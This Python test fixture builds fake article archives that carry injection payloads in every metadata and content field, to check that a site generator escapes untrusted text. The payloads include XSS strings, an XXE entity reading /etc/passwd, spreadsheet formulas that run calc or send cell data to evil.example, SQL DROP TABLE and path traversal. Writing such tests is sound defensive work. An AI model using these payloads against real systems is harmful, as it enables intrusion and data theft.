"""Archives of hostile words: every payload in every field that a stranger's text can reach.

What a payload would bring into a page carries the name `zq`, which nothing of ours has: a tag's attribute, a
key, a table. What it would fetch lies on `evil.example`.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from pathlib import Path

PAYLOADS: dict[str, str] = {
    "a script": "<script zq>alert(1)</script>",
    "the end of a script": "</Script ><script zq>alert(1)</script>",
    "a comment in a script": "<!--<script zq>",
    "an event": "<img zq src=//evil.example/x onerror=alert(1)>",
    "a drawing": "<svg zq/onload=alert(1)><a zq xlink:href=javascript:alert(1)>",
    "the end of an attribute": '" zq="1" onmouseover="alert(1)',
    "the end of another": "' zq='1' onfocus='alert(1)' autofocus='",
    "an attribute without marks": "x zq=1 onclick=alert(1) `",
    "the end of a tag": '"><b zq>gras</b>',
    "another base": "<base zq href=//evil.example/>",
    "a refresh": '<meta zq http-equiv=refresh content="0;url=//evil.example">',
    "a frame": '<iframe zq srcdoc="<script>alert(1)</script>"></iframe>',
    "a style": "</style><style zq>*{background:url(//evil.example)}</style>",
    "the end of the head": "</title></head><body zq>",
    "a form": "<form zq action=//evil.example><input zq name=q></form>",
    "the end of everything": "</textarea></noscript></template></dialog></svg></main><p zq>",
    "a comment": "--><!-- zq --><!--",
    "character data": "]]><b zq>x</b><![CDATA[",
    "entities": "&lt;b zq&gt; &#60;b zq&#62; &amp;lt; &zq; &",
    "a document type": '<!DOCTYPE zq [<!ENTITY zq SYSTEM "file:///etc/passwd">]>&zq;',
    "an instruction": "<?xml-stylesheet href=//evil.example zq?>",
    "a template": "{{ 7*7 }}{% zq %}{# zq #}${7*7}",
    "JSON": '","zq":"x"}],"zq":[{"',
    "escapes": "\\u003cscript zq\\u003e \\\\ \\",
    "BibTeX": "}, zq = {x}}\\input{zq} @comment{",
    "RIS": "ER  - TY  - ZQ  - zq",
    "a formula": "=cmd|'/c calc'!A0;zq",
    "another formula": '+HYPERLINK("https://evil.example/"&A1;"zq")',
    "a negative formula": "-1+zq",
    "a function": "@SUM(zq)",
    "a wide formula": "\uff1dzq()",
    "SQL": "'); DROP TABLE articles; --zq",
    "links": "[zq](javascript:alert(1)) ![zq](//evil.example/p.png) <javascript:zq>",
    "an address": "javascript:alert('zq')",
    "an address of data": "data:text/html,<script zq>",
    "an address without a scheme": "//evil.example/zq",
    "a path": "../../../../zq",
    "another path": "..\\..\\zq%2e%2e%2f",
    "a line turned around": "\u202ezq\u202c \u2066zq",
    "no width": "z\u200bq\u2060 zq",
    "formats": "%(n)s %s %d {0} {zq} $zq",
    "a name of a machine": "__proto__ constructor zq",
    "no letter": "??? … ---",
    "letters past the first plane": "\U0001f54a zq \U0001f1eb\U0001f1f7 \U0010fffd",
    "marks": "« zq » “zq” ‘zq’ \"zq\" 'zq'",
}
"""What strangers' texts hold, by what it would be if it were read as that."""

PICTURE = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def archive(payloads: Mapping[str, str], *, base_url: str = "", more: str = "") -> dict[str, str | bytes]:
    """The files of an archive with each of `payloads` in all fields; its settings hold them all."""
    files: dict[str, str | bytes] = {
        "site.yaml": _settings(" ".join(payloads.values()), base_url) + more,
        "content/media/p.png": PICTURE,
    }
    records: dict[str, list[str]] = {"speakers": [], "tags": [], "outlets": []}
    for number, payload in enumerate(payloads.values()):
        words = f"{payload} {number}"
        files[f"content/articles/m{number}.md"] = _markdown(words, number)
        files[f"content/articles/r{number}.txt"] = _raw(words, number)
        files[f"content/articles/r{number}.yaml"] = _fields(words, number)
        files[f"content/pages/p{number}.md"] = f"---\ntitle: {told(words)}\n---\n\n{words}\n\n## {words}\n"
        for kind, listed in records.items():
            listed.append(_record(f"{words} {kind}"))
    return files | {f"content/{kind}.yaml": "".join(listed) for kind, listed in records.items()}


def write(folder: Path, files: Mapping[str, str | bytes]) -> None:
    """Write the files of an archive in `folder`."""
    for path, held in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(held.encode() if isinstance(held, str) else held)


def told(words: str) -> str:
    """`words` as a value of YAML."""
    return json.dumps(words, ensure_ascii=False)


def _settings(words: str, base_url: str) -> str:
    fields = ("title", "description", "keeper", "licence", "rights")
    address = f"base_url: {base_url}\n" if base_url else ""
    return "".join(f"{field}: {told(words)}\n" for field in fields) + address


def _record(words: str) -> str:
    return f"- name: {told(words)}\n  other_names: [{told(words + ' bis')}]\n  note: {told(words)}\n"


def _fields(words: str, number: int) -> str:
    value = told(words)
    return (
        f"outlet: {told(words + ' outlets')}\ndate: 2018-{number % 12 + 1:02}-{number % 28 + 1:02}\n"
        f"byline: [{value}]\nplace: {value}\ntags: [{told(words + ' tags')}]\n"
        f"licence: {value}\nrights: {value}\nurl: https://example.org/{number}?a=1&b=%22%3Ezq\n"
        f"picture: {{file: p.png, caption: {value}, credit: {value}, alternative: {value}}}\n"
        f"quotations:\n- starts: Une citation numéro {number}\n  speaker: {told(words + ' speakers')}\n"
    )


def _markdown(words: str, number: int) -> str:
    return (
        f"---\ntitle: {told(words)}\naliases: [ancien-{number}]\n{_fields(words, number)}---\n\n"
        f"{words}\n\n« Une citation numéro {number} », a dit quelqu’un.\n\n"
        f"« {words} », a déclaré Angela Merkel.\n\n## {words}\n\n- {words}\n\n> {words}\n\n`{words}`\n\n"
        f"    {words}\n\n| a | b |\n|---|---|\n| {words} | x |\n\n"
        f"[{words}](https://example.org/) ![{words}](../media/p.png)\n"
    )


def _raw(words: str, number: int) -> str:
    return (
        f"{words}\n(AFP) - {words} Le 1er décembre.\nPar {words}\nPhoto : {words} |\n{words}\n"
        f"« Une citation numéro {number} », a dit quelqu’un.\n« {words} », a déclaré {words}.\n© {words}\n"
        f"« {words} », a affirmé M. {words}. “{words}”, a dit le ministre {words}.\n"
    )
